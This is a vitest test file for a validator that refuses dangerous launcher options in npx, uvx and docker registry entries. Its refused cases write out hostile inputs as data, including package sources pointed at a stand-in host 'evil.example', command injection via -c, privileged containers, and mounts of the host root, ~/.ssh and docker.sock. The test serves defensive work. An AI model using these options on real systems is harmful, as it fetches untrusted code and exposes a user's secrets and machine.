import { homedir } from 'node:os';
import { describe, expect, it } from 'vitest';
import { judgeOptions } from '../../../../../../electron/host/install/registry/launcher-options.js';
import type { Launcher } from '../../../../../../electron/host/install/registry/launcher-options.js';

/** The rule for a registry entry's launcher options (issue 21, finding 8). */
const refused = (launcher: Launcher, tokens: string[], identifier = 'pkg') =>
  judgeOptions(launcher, tokens, identifier).refused;

describe('launcher options', () => {
  it.each<[Launcher, string[]]>([
    ['npx', ['-c', 'touch /tmp/x']],
    ['npx', ['--call=touch /tmp/x']],
    ['npx', ['--registry=https://evil.example/']],
    ['npx', ['--registry', 'https://evil.example/']],
    ['npx', ['--userconfig', '/tmp/npmrc']],
    ['npx', ['--@scope:registry=https://evil.example/']],
    ['npx', ['--//evil.example/:_authToken=x']],
    ['npx', ['-p', 'evil-package']],
    ['npx', ['--package=evil-package@1.0.0']],
    ['npx', ['--node-options=--require=/tmp/x.js']],
    ['uvx', ['--from', 'git+https://evil.example/repo']],
    ['uvx', ['--from', 'https://evil.example/pkg.whl']],
    ['uvx', ['--from', './local']],
    ['uvx', ['--from', 'another-package']],
    ['uvx', ['--index-url', 'https://evil.example/simple']],
    ['uvx', ['-i', 'https://evil.example/simple']],
    ['uvx', ['--extra-index-url=https://evil.example/simple']],
    ['uvx', ['--default-index', 'https://evil.example/simple']],
    ['uvx', ['--find-links', 'https://evil.example/']],
    ['uvx', ['--with', 'git+https://evil.example/x']],
    ['uvx', ['--with', '/tmp/evil.whl']],
    ['uvx', ['--python', '/tmp/evil']],
    ['uvx', ['--env-file', '.env']],
    ['docker', ['--privileged']],
    ['docker', ['-v', '/:/host']],
    ['docker', ['--volume=/:/host:ro']],
    ['docker', ['-v', `${homedir()}:/home`]],
    ['docker', ['-v', '~:/h']],
    ['docker', ['-v', '$HOME/.ssh:/keys']],
    ['docker', ['-v', '/var/run/docker.sock:/var/run/docker.sock']],
    ['docker', ['-v', '/etc:/etc']],
    ['docker', ['--mount', 'type=bind,source=/,target=/host']],
    ['docker', ['--mount', `type=bind,src=${homedir()},dst=/h`]],
    ['docker', ['--pid=host']],
    ['docker', ['--pid', 'host']],
    ['docker', ['--network=host']],
    ['docker', ['--net', 'host']],
    ['docker', ['--ipc=host']],
    ['docker', ['--cap-add', 'SYS_ADMIN']],
    ['docker', ['--device', '/dev/sda']],
    ['docker', ['--security-opt', 'seccomp=unconfined']],
    ['docker', ['--env-file', '/home/me/.env']],
  ])('%s %j is refused', (launcher, tokens) => {
    expect(refused(launcher, tokens)).toMatch(
      /^Its launcher option .+ (changes where the package comes from|gives the container access to your computer|runs a command instead of the package|runs another package than the entry names|changes what npm runs before the package|adds a package from a URL or a path|runs another program as Python|loads environment variables from a file( on your computer)?)$/,
    );
  });

  it.each<[Launcher, string[], string[]]>([
    ['npx', ['-y'], []],
    ['npx', ['--yes', '--loglevel', 'warn'], ['--loglevel warn']],
    ['npx', ['-p', 'pkg@1.2.3'], ['-p pkg@1.2.3']],
    ['uvx', ['--from', 'pkg==1.0'], ['--from pkg==1.0']],
    ['uvx', ['--with', 'numpy'], ['--with numpy']],
    ['uvx', ['--python', '3.12'], ['--python 3.12']],
    ['docker', ['-v', '/home/me/project:/data'], ['-v /home/me/project:/data']],
    ['docker', ['-v', 'named-volume:/data'], ['-v named-volume:/data']],
    ['docker', ['--network', 'mcp-net'], ['--network mcp-net']],
    ['docker', ['-e', 'MODE=demo'], ['-e MODE=demo']],
    ['docker', ['-i', '--rm', '-e', 'GITHUB_TOKEN'], []],
  ])('%s %j is allowed and shown as %j', (launcher, tokens, shown) => {
    expect(judgeOptions(launcher, tokens, 'pkg')).toEqual({ shown });
  });
});
